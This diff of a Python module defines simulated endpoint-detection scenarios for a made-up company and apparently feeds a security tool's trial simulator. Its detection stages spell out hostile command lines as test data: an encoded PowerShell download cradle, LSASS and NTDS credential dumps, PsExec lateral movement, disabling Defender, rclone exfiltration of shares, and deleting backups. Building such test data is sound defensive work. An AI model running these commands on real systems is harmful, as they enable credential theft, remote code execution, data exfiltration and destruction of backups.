@@ -4,80 +4,42 @@ All of them happen in one made-up company: CORP is the Windows domain of acme.co
 workstation-01, adm-mgarcia administers. The one address is from RFC 5737 (documentation), so
 nothing that a command line names can be reached. `simulate.sh` carries the CrowdStrike scenarios a
 second time, because it has to work alone; a test holds the two equal.
+
+The table is in CrowdStrike's words; `as_sent_by` says the same in another vendor's.
 """
 
 import base64
-import hashlib
 from typing import Final
 
-import msgspec
-
 from vyrox.models import Vendor
+from vyrox.trial import company
+from vyrox.trial.simulate.stages import Scenario, Stage
+from vyrox.trial.simulate.vendors import as_sent_by
 
-
-class Host(msgspec.Struct, frozen=True):
-    """A computer, by its name and by the vendor's own identifier of it."""
-
-    name: str
-    device_id: str
-
-
-class Stage(msgspec.Struct, frozen=True):
-    """One detection, before its vendor's shape is put on it.
-
-    Attributes:
-        tactic: As the vendor writes it: a MITRE identifier, or Defender's category.
-        username: As the vendor writes it; SentinelOne's shape has no place for it.
-        command_line: Begins with the program, whose path has no spaces.
-    """
-
-    severity: str
-    tactic: str
-    technique: str
-    host: Host
-    username: str
-    command_line: str
-
-    @property
-    def process_name(self) -> str:
-        """The program's file name."""
-        return self.command_line.split(" ")[0].split("\\")[-1]
-
-    @property
-    def sha256(self) -> str:
-        """The program's made-up hash: always the same for one name, and no real file has it."""
-        return hashlib.sha256(f"vyrox-simulator:{self.process_name}".encode()).hexdigest()
-
-
-class Scenario(msgspec.Struct, frozen=True):
-    """A named run of one or more detections from one vendor, in the order they happen."""
-
-    name: str
-    vendor: Vendor
-    description: str
-    stages: tuple[Stage, ...]
-
-
-_WORKSTATION_01 = Host("workstation-01", "12345678-1234-1234-1234-123456789abc")
-_WORKSTATION_07 = Host("workstation-07", "5f0c7a1e-93b2-4d6a-8e21-0b7d4c9f6a35")
-_FILE_SRV_02 = Host("file-srv-02", "a3d918c4-6e70-4b5f-9c12-d84e2f7b1069")
-_DC_01 = Host("dc-01", "c71b5e20-4a8d-4f39-b6e7-92d0a5c3f814")
-_S1_WORKSTATION_07 = Host("workstation-07", "1742960385517204813")
-_S1_FILE_SRV_02 = Host("file-srv-02", "1742961120948337562")
-_MDE_WORKSTATION_01 = Host("workstation-01.acme.local", "8d2f61c0b7e94a35d1f08c6b52e7a9403fd6b18e")
-_ASSET_FILE_SRV_02 = Host("file-srv-02", "asset-00417")
+_WORKSTATION_01 = company.WORKSTATION_01.at("crowdstrike")
+_WORKSTATION_07 = company.WORKSTATION_07.at("crowdstrike")
+_FILE_SRV_02 = company.FILE_SRV_02.at("crowdstrike")
+_DC_01 = company.DC_01.at("crowdstrike")
 
 _JSMITH = r"CORP\jsmith"
 _ADMIN = r"CORP\adm-mgarcia"
 _SYSTEM = r"NT AUTHORITY\SYSTEM"
 
-_DOWNLOAD = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/update.ps1')"
-_ENCODED_DOWNLOAD = (
-    "powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -EncodedCommand "
-    + base64.b64encode(_DOWNLOAD.encode("utf-16-le")).decode()
-)
+_BACKUP = r"CORP\svc-backup"
 
-# One table, two lines a detection.
+
+def _encoded(options: str, script: str) -> str:
+    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
+    return f"powershell.exe -NoProfile {options} -EncodedCommand {encoded}"
+
+
+_ENCODED_DOWNLOAD = _encoded(
+    "-WindowStyle Hidden -ExecutionPolicy Bypass",
+    "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/update.ps1')",
+)
+_ENCODED_INVENTORY = _encoded("-NonInteractive", "Get-HotFix | Select-Object HotFixID")
+
+# One table, two lines for each detection.
 # fmt: off
 _ALL = (
     Scenario("mimikatz", "crowdstrike", "Mimikatz reads passwords out of LSASS memory", (
@@ -114,26 +76,58 @@ _ALL = (
         Stage("critical", "TA0006", "T1003.003", _DC_01, _ADMIN,
               r'ntdsutil.exe "ac i ntds" "ifm" "create full C:\Windows\Temp\ifm" q q'),
     )),
-    Scenario("software-deployment", "crowdstrike", "Benign: a managed install runs a script", (
+    Scenario("ransomware-precursor", "crowdstrike", "The hour before files are encrypted", (
+        Stage("medium", "TA0007", "T1482", _FILE_SRV_02, _ADMIN,
+              "nltest.exe /domain_trusts /all_trusts"),
+        Stage("high", "TA0005", "T1562.001", _FILE_SRV_02, _ADMIN,
+              "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true"),
+        Stage("medium", "TA0010", "T1567.002", _FILE_SRV_02, _ADMIN,
+              r"C:\ProgramData\rclone.exe copy D:\Shares mega:acme --transfers 16 --max-age 2y"),
+        Stage("medium", "TA0040", "T1489", _FILE_SRV_02, _SYSTEM,
+              "cmd.exe /c net stop VeeamBackupSvc /y & net stop MSSQLSERVER /y & net stop vss /y"),
+        Stage("high", "TA0040", "T1490", _FILE_SRV_02, _SYSTEM,
+              "wbadmin.exe delete catalog -quiet"),
+    )),
+    Scenario("software-deployment", "crowdstrike", "Benign: SCCM and Intune run scripts", (
         Stage("low", "TA0002", "T1059.001", _WORKSTATION_07, _SYSTEM,
               r"powershell.exe -ExecutionPolicy Bypass -File C:\Windows\ccmcache\1a\Install.ps1"),
+        Stage("medium", "TA0005", "T1218.007", _WORKSTATION_07, _SYSTEM,
+              r"msiexec.exe /i C:\Windows\ccmcache\2c\viewer-24.2-x64.msi /qn /norestart"),
+        Stage("medium", "TA0002", "T1059.001", _WORKSTATION_07, _SYSTEM,
+              _ENCODED_INVENTORY),
+        Stage("medium", "TA0002", "T1059.001", _WORKSTATION_07, _SYSTEM,
+              r"powershell.exe -NoProfile -executionPolicy bypass -file "
+              r"C:\Windows\IMECache\HealthScripts\8f0b6a1e-52c7-4d39-9e84-1b7c3a5d2f60_1\detect.ps1"),
     )),
     Scenario("psexec", "sentinelone", "PsExec runs a program on a server, seen from both ends", (
-        Stage("high", "TA0008", "T1021.002", _S1_WORKSTATION_07, _ADMIN,
+        Stage("high", "TA0008", "T1021.002", _WORKSTATION_07, _ADMIN,
               r"PsExec64.exe \\file-srv-02 -accepteula -s -d cmd.exe /c C:\Windows\Temp\upd.exe"),
-        Stage("high", "TA0002", "T1569.002", _S1_FILE_SRV_02, _SYSTEM,
+        Stage("high", "TA0002", "T1569.002", _FILE_SRV_02, _SYSTEM,
               r"C:\Windows\PSEXESVC.exe"),
     )),
     Scenario("lsass-dump", "defender", "ProcDump writes the memory of LSASS to a file", (
-        Stage("high", "CredentialAccess", "T1003.001", _MDE_WORKSTATION_01, "jsmith@acme.com",
+        Stage("high", "TA0006", "T1003.001", _WORKSTATION_01, _JSMITH,
               r"procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\lsass.dmp"),
     )),
     Scenario("backup", "generic", "Benign: the nightly backup reads a whole server", (
-        Stage("low", "TA0009", "T1119", _ASSET_FILE_SRV_02, "svc-backup@acme.com",
+        Stage("low", "TA0009", "T1119", _FILE_SRV_02, _BACKUP,
               r"wbadmin.exe start backup -backupTarget:\\backup-01\nightly -include:D: -quiet"),
+        Stage("medium", "TA0040", "T1490", _FILE_SRV_02, _BACKUP,
+              "vssadmin.exe list shadows /for=D:"),
+        Stage("medium", "TA0010", "T1048", _FILE_SRV_02, _BACKUP,
+              r"robocopy.exe D:\Shares \\backup-01\nightly /MIR /R:2 /W:5 /LOG:C:\Logs\copy.log"),
     )),
 )
 # fmt: on
 
-SCENARIOS: Final = {scenario.name: scenario for scenario in _ALL}
+_NAMED: Final = {each.name: each for each in _ALL}
+
+
+def scenario_of(name: str, vendor: Vendor | None = None) -> Scenario:
+    """Return the scenario of this name as the vendor reports it; None for the vendor it has."""
+    scenario = _NAMED[name]
+    return as_sent_by(vendor or scenario.vendor, scenario)
+
+
+SCENARIOS: Final = {name: scenario_of(name) for name in _NAMED}
 """Every scenario under its name, in the order `--list` shows them."""
